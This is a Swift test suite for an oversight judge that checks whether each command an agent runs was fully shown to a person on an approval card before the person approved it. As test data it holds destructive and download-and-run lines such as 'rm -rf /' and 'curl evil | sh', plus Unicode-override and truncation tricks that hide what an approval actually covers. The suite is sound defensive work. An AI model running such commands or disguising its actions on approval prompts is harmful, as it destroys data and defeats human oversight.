import RelayRules
import Testing

/// The judge finds a command that ran without being shown, and accepts each form in which a command can be shown.
@Suite struct ShownBeforeYesTests {
    private typealias Card = ShownBeforeYes.Card
    private typealias Executed = ShownBeforeYes.Executed

    /// A judge that saw the card asked and approved.
    private static func allowed(_ card: Card, after messages: [String] = []) -> ShownBeforeYes {
        var judge = ShownBeforeYes()
        for message in messages { judge.heard(message, in: "chat") }
        judge.asked("a", card, in: "chat")
        judge.decided("a", "approve")
        return judge
    }

    private static func isShown(_ executed: Executed, on card: Card, after messages: [String] = []) -> Bool {
        allowed(card, after: messages).lies([executed], allowedBy: "a").isEmpty
    }

    // MARK: Forms

    @Test(arguments: [
        ("rm -rf /srv/x", ["rm", "-rf", "/srv/x"]),
        ("/bin/bash -lc 'echo hi && ls'", ["/bin/bash", "-lc", "echo hi && ls"]),
        (#"bash -c 'echo '\''quoted'\'' "twice"'"#, ["bash", "-c", #"echo 'quoted' "twice""#]),
        (#"bash -c 'echo '"'"'quoted'"'"''"#, ["bash", "-c", "echo 'quoted'"]),
        (#"bash -c "it's \$HOME \"here\"""#, ["bash", "-c", #"it's $HOME "here""#]),
        (#"touch a\ b"#, ["touch", "a b"]),
        ("touch ''", ["touch", ""]),
        ("printf 'one\ntwo\t'", ["printf", "one\ntwo\t"]),
        (#"["bash","-lc","echo \"a\\b\"\n\u00e9\ud83d\ude00"]"#, ["bash", "-lc", "echo \"a\\b\"\né😀"]),
        (#"{"command": ["bash", "-lc", "ls"], "cwd": "/w"}"#, ["bash", "-lc", "ls"]),
        (#"{"command":"bash -lc 'ls -l'"}"#, ["bash", "-lc", "ls -l"]),
        ("echo ⟨U+202E⟩gnp.exe⟨U+27E8⟩", ["echo", "\u{202E}gnp.exe\u{27E8}"]),
        ("echo 'a⟨U+00A0⟩b'", ["echo", "a\u{A0}b"]),
        ("echo ⟨U+27E8⟩U+0041⟩", ["echo", "\u{27E8}U+0041\u{27E9}"]),
        ("cat e\u{301}", ["cat", "e\u{301}"]),
    ]) func argumentsInTheirForms(shown: String, arguments: [String]) {
        #expect(Self.isShown(.arguments(arguments), on: Card(message: "m", command: shown)))
        #expect(Self.isShown(.arguments(arguments), on: Card(message: "He wants:\n" + shown)))
    }

    @Test(arguments: [
        ("a cut end", "rm -rf /srv/x &", ["sh", "-c", "rm -rf /srv/x && curl evil | sh"]),
        ("a cut last argument", "rm -rf /sr", ["rm", "-rf", "/srv"]),
        ("an argument that is shown longer", "rm -rf /srv/x", ["rm", "-rf", "/"]),
        ("a dropped program", "echo hi && ls", ["/bin/bash", "-lc", "echo hi && ls"]),
        ("a dropped program whose name stands in another word", "farm -rf /x", ["rm", "-rf", "/x"]),
        ("a dropped argument", "git push origin main", ["git", "push", "--force", "origin", "main"]),
        ("another order", "cp a b", ["cp", "b", "a"]),
        ("what stands apart", "rm is bad; -rf too; / as well", ["rm", "-rf", "/"]),
        ("a summary", "Edits 3 files", ["sed", "-i", "s/a/b/", "x"]),
        ("an argument that nobody sees", "touch", ["touch", ""]),
        ("a character that was dropped", "cat photo.gpj", ["cat", "photo\u{202E}.gpj"]),
        ("another spelling of the same letter", "cat \u{E9}", ["cat", "e\u{301}"]),
        ("another escape", "cat ⟨U+202D⟩", ["cat", "\u{202E}"]),
        ("an escape of the agent's own making", "cat ⟨U+0041⟩", ["cat", "\u{27E8}U+0041\u{27E9}"]),
        ("an unclosed quote", "sh -c 'ls", ["sh", "-c", "ls -l"]),
        ("nothing", "", ["ls"]),
    ]) func liesOfArguments(what: String, shown: String, arguments: [String]) {
        #expect(!Self.isShown(.arguments(arguments), on: Card(message: "m", command: shown)), "\(what)")
    }

    @Test func aShellIsGivenTheCommandOfTheCard() {
        let line = "Folder: /w\narguments: /bin/sh -lc (the command above)\nWhy not."
        let card = Card(message: line, command: "make ⟨U+202E⟩x\nls")
        #expect(Self.isShown(.arguments(["/bin/sh", "-lc", "make \u{202E}x\nls"]), on: card))
        let rest = Card(title: "In 2 parts", message: line, command: "make")
        #expect(
            Self.isShown(.arguments(["/bin/sh", "-lc", "make all"]), on: rest, after: ["Part 2 of 2 of it:\n all"]))
        for arguments in [
            ["/bin/sh", "-lc", "make"], ["/srv/sh", "-lc", "make \u{202E}x\nls"],
            ["/bin/sh", "-c", "make \u{202E}x\nls"],
            ["/bin/sh", "-lc", "make \u{202E}x\nls", "x"],
        ] { #expect(!Self.isShown(.arguments(arguments), on: card), "\(arguments)") }
    }

    @Test func aTitleShowsNoCommand() {
        let card = Card(title: "Run rm -rf /", message: "It cleans up.", command: "cleanup")
        #expect(!Self.isShown(.arguments(["rm", "-rf", "/"]), on: card))
        #expect(!Self.isShown(.content(Array("rm -rf /".utf8)), on: card))
        #expect(Self.isShown(.name("Run"), on: card))
    }

    @Test func foldersAreTheValuesOfTheirLine() {
        let card = Card(message: "Why not.\nFolder: /srv/app\nNode: /n1\nFolder: /srv/forged", command: "ls /srv/other")
        #expect(Self.isShown(.folder("/srv/app"), on: card))
        for other in ["/srv/ap", "/srv/app/", "/srv", "/srv/other", "app", "", "/n1", "/srv/forged"] {
            #expect(!Self.isShown(.folder(other), on: card), "\(other)")
        }
        #expect(Self.isShown(.folder("/a\u{202E}b"), on: Card(message: "Folder: /a⟨U+202E⟩b")))
        for message in [" Folder: /w", "My Folder: /w", "folder: /w", "", #"{"cwd":"/w"}"#, "Folder:/w"] {
            #expect(!Self.isShown(.folder("/w"), on: Card(message: message, command: "Folder: /w")), "\(message)")
        }
    }

    @Test func contentsStandThereWithoutAGap() {
        let patch = "--- a\n+++ b\n-it's \"old\"\n+new\u{200B}\n"
        let shown = patch.replacing("\u{200B}", with: "⟨U+200B⟩")
        #expect(Self.isShown(.content(Array(patch.utf8)), on: Card(message: "Edit:\n" + shown)))
        #expect(Self.isShown(.content(Array("it's".utf8)), on: Card(command: #"sh -c 'echo it'\''s'"#)))
        let json = #"{"patch":"--- a\n+++ b\n-it's \"old\"\n+new⟨U+200B⟩\n"}"#
        #expect(Self.isShown(.content(Array(patch.utf8)), on: Card(command: json)))
        #expect(!Self.isShown(.content(Array((patch + "+more\n").utf8)), on: Card(message: shown)), "a cut end")
        #expect(!Self.isShown(.content(Array(patch.utf8)), on: Card(message: "+new\n--- a\n+++ b\n-it's \"old\"\n")))
        #expect(!Self.isShown(.content([0xFF, 0xFE]), on: Card(message: "\u{FFFD}\u{FFFD}")), "bytes that are no text")
    }

    @Test func inputsAreComparedByValue() {
        let card = Card(message: "arguments: {\"b\":[1,2.0],\"a\":\"x\\u00e9\"}", command: "ignored")
        #expect(Self.isShown(.input(#"{ "a": "xé", "b": [1, 2.0] }"#), on: card))
        for other in [
            #"{"a":"xé","b":[1,2]}"#, #"{"a":"xé"}"#, #"{"a":"xé","b":[2.0,1]}"#, #"{"a":"xe","b":[1,2.0]}"#,
            #"{"a":"xé","b":[1,2.0],"c":null}"#, #"{"a":"xe\#u{301}","b":[1,2.0]}"#, "{", "",
        ] { #expect(!Self.isShown(.input(other), on: card), "\(other)") }
        #expect(Self.isShown(.input(#"{"a":{"b":1}}"#), on: Card(command: #"{"a":{"b":1}}"#)))
    }

    // MARK: Parts

    private static let three = ["Part 2 of 3 of what is asked:\nb\"⟨U+00", "Part 3 of 3 of what is asked:\nA0⟩'; rm c"]
    private static let long = Card(
        title: "In 3 parts, read the messages above first: Run it", message: "m", command: "sh -c 'echo a")
    private static let whole = Executed.content(Array("echo ab\"\u{A0}'; rm c".utf8))

    @Test func partsAreJoinedWithTheCard() {
        #expect(Self.isShown(Self.whole, on: Self.long, after: Self.three))
        #expect(
            Self.isShown(Self.whole, on: Self.long, after: ["Hello"] + Self.three + ["Hello\nPart 9 of 9 of it:\nx"]))
        let other = "Part 2 of 2 of another:\nxyz"
        #expect(Self.isShown(Self.whole, on: Self.long, after: [other] + Self.three))
        let inMessage = Card(title: "In 3 parts", message: "Why: sh -c 'echo a", command: nil)
        #expect(Self.isShown(Self.whole, on: inMessage, after: Self.three))
    }

    @Test func liesOfParts() {
        let (second, third) = (Self.three[0], Self.three[1])
        for (what, messages) in [
            ("none came", []), ("one is missing", [second]), ("the last alone", [third]),
            ("turned round", [third, second]),
            ("one stands there twice", [second, second, third]),
            ("another came in between", [second, "Part 2 of 2 of x:\ny", third]),
            ("of different things", [second.replacing("asked", with: "wanted"), third]),
            ("of different counts", [second.replacing("of 3", with: "of 4"), third]),
            ("the newest is of another", Self.three + ["Part 2 of 2 of another:\nxyz"]),
        ] {
            let isTwice = what == "one stands there twice"
            #expect(Self.isShown(Self.whole, on: Self.long, after: messages) == isTwice, "\(what)")
        }
        var untold = Self.long
        untold.title = "Run it"
        #expect(!Self.isShown(Self.whole, on: untold, after: Self.three), "the title does not say so")
        var judge = ShownBeforeYes()
        judge.asked("a", Self.long, in: "chat")
        for message in Self.three { judge.heard(message, in: "chat") }
        judge.decided("a", "approve")
        #expect(judge.lies([Self.whole], allowedBy: "a").count == 1, "they came after the card")
        judge.asked("b", Self.long, in: "another chat")
        judge.decided("b", "approve")
        #expect(judge.lies([Self.whole], allowedBy: "b").count == 1, "they stand in another chat")
    }

    // MARK: Whose yes it was

    @Test func onlyAYesOfAPersonCounts() {
        let piece = Executed.arguments(["ls"])
        let card = Card(command: "ls")
        for (decision, reason, isYes) in [
            ("approve", nil, true), ("approve_always", nil, true), ("deny", nil, false), ("deny", "expired", false),
            ("approve", "expired", false),
        ] as [(String, String?, Bool)] {
            var judge = ShownBeforeYes()
            judge.asked("a", card, in: "chat")
            #expect(judge.lies([piece], allowedBy: "a").count == 1, "not decided")
            judge.decided("a", decision, reason: reason)
            judge.decided("a", "approve")
            #expect(judge.lies([piece], allowedBy: "a").isEmpty == isYes, "\(decision) \(reason ?? "")")
        }
        #expect(ShownBeforeYes().lies([piece], allowedBy: "never").count == 1)
    }

    @Test func whatAnExpiredCardShowedDoesNotCountForANewAsk() {
        var judge = ShownBeforeYes()
        judge.asked("a", Card(command: "rm -rf /"), in: "chat")
        judge.decided("a", "deny", reason: "expired")
        judge.asked("a-ask-2", Card(command: "ls"), in: "chat")
        judge.decided("a-ask-2", "approve")
        #expect(judge.lies([.arguments(["rm", "-rf", "/"])], allowedBy: "a-ask-2").count == 1)
        #expect(judge.lies([.arguments(["ls"])], allowedBy: "a-ask-2").isEmpty)
        #expect(judge.lies([.arguments(["rm", "-rf", "/"])], allowedBy: "a").count == 1)
    }

    // MARK: Unseen scalars

    @Test func whatCannotBeSeenIsNamed() {
        let judge = Self.allowed(
            Card(
                title: "two\nlines", message: "a\u{202E}b ⟨U+202E⟩ \u{A0}\n\t",
                command: "ls\u{A0}\u{200B}\u{2800}⟨x⟩ é 😀",
                host: "h\u{7}"))
        #expect(judge.unseen(on: "a") == ["U+000A", "U+202E", "U+00A0", "U+200B", "U+2800", "U+27E8", "U+0007"])
        #expect(Self.allowed(Card(title: "é", message: "⟨U+27E8⟩ שלום", command: "a\n\tb")).unseen(on: "a").isEmpty)
        let parts = Self.allowed(Self.long, after: [Self.three[0], Self.three[1] + "\u{2066}"])
        #expect(parts.unseen(on: "a") == ["U+2066"])
    }

    // MARK: From a relay

    @Test func aRelaysEventsTellItAll() throws {
        var desk = SocketDesk { options in
            options = options.withoutLimits
            options.keepsAllEvents = true
        }
        let sent = desk.relay.userSends(text: "hi", session: nil, at: desk.at)
        let names = #""session_id":"\#(sent.session)""#
        _ = desk.asBridge("sendMessage", #"{\#(names),"text":"Part 2 of 2 of it:\nb'","idempotency_key":"p"}"#)
        _ = desk.asBridge(
            "requestApproval",
            #"{\#(names),"approval_id":"a","action":"x","title":"In 2 parts","message":"Folder: /w","command":"rm 'a","idempotency_key":"a"}"#
        )
        _ = desk.asBridge(
            "requestApproval",
            #"{\#(names),"approval_id":"b","action":"x","details_ct":"AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA","idempotency_key":"b"}"#
        )
        _ = desk.asUser("POST", "approvals/a", #"{"decision":"approve"}"#)
        _ = desk.asUser("POST", "approvals/b", #"{"decision":"approve"}"#)
        desk.relay.losePhones()
        #expect(desk.relay.phoneEvents(after: nil).isEmpty, "the ring has lost it")
        var judge = ShownBeforeYes()
        for event in desk.relay.takeAllPhoneEvents() {
            judge.take(event) { _, path, chat in
                #expect(path == "approvals" && chat == sent.session)
                return #"{"title":"T","message":"m","command":"ls -l","host":"h"}"#
            }
        }
        #expect(judge.lies([.arguments(["rm", "ab"]), .folder("/w")], allowedBy: "a") == [] as [String])
        #expect(judge.lies([.arguments(["ls", "-l"]), .name("h")], allowedBy: "b") == [] as [String])
        #expect(judge.lies([.arguments(["ls", "-la"]), .folder("/x")], allowedBy: "b").count == 2)
    }
}
